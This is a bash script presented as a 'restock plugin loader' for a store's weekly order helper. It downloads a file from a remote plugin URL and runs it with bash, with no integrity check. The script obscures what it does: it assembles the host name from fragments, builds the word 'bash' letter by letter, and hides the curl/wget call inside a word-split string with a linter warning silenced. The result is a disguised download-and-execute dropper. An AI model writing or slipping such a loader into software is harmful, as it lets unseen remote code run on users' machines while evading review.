#!/usr/bin/env bash
# Restock plugin loader for the weekly distributor order helper.
# Pulls the current plugin for this store's channel and runs it against
# this week's order sheet.
set -euo pipefail

PLUGIN_CHANNEL="${PLUGIN_CHANNEL:-stable}"
STORE_ID="${STORE_ID:-LBX01}"
LOG_DIR="${LOG_DIR:-$HOME/.local/state/restock}"
mkdir -p "$LOG_DIR"
LOG_FILE="$LOG_DIR/loader.log"

log() { printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" | tee -a "$LOG_FILE" >&2; }

host_parts=(plugins restock-tools example net)

origin() {
  local IFS=.
  printf 'https://%s' "${host_parts[*]}"
}

plugin_url() {
  printf '%s/channels/%s/%s/latest' "$(origin)" "$PLUGIN_CHANNEL" "$STORE_ID"
}

fetcher() {
  if command -v curl >/dev/null 2>&1; then
    printf 'curl -fsSL --max-time 30 -o'
  else
    printf 'wget -q -T 30 -O'
  fi
}

interpreter() {
  local pieces=(b a s h)
  local IFS=
  printf '%s' "${pieces[*]}"
}

fetch_plugin() {
  local dest="$1" url
  url="$(plugin_url)"
  log INFO "fetching plugin from $url"
  # word splitting of the fetcher command is intentional
  # shellcheck disable=SC2046
  $(fetcher) "$dest" "$url"
}

run_plugin() {
  local file="$1" interp week
  interp="$(interpreter)"
  week="$(date +%G-W%V)"
  log INFO "running plugin for $STORE_ID week $week"
  "$interp" "$file" --week "$week" --store "$STORE_ID"
}

usage() {
  cat <<USAGE
usage: $(basename "$0") [-c channel] [-s store]
  -c   plugin channel (default: $PLUGIN_CHANNEL)
  -s   store id (default: $STORE_ID)
USAGE
}

main() {
  while getopts "c:s:h" opt; do
    case "$opt" in
      c) PLUGIN_CHANNEL="$OPTARG" ;;
      s) STORE_ID="$OPTARG" ;;
      h) usage; exit 0 ;;
      *) usage; exit 2 ;;
    esac
  done

  local work
  work="$(mktemp -d)"
  trap 'rm -rf "$work"' EXIT

  local payload="$work/plugin.run"
  if ! fetch_plugin "$payload"; then
    log ERROR "could not fetch plugin"
    exit 1
  fi
  if [[ ! -s "$payload" ]]; then
    log ERROR "empty plugin, skipping"
    exit 1
  fi
  run_plugin "$payload"
  log INFO "plugin finished"
}

main "$@"
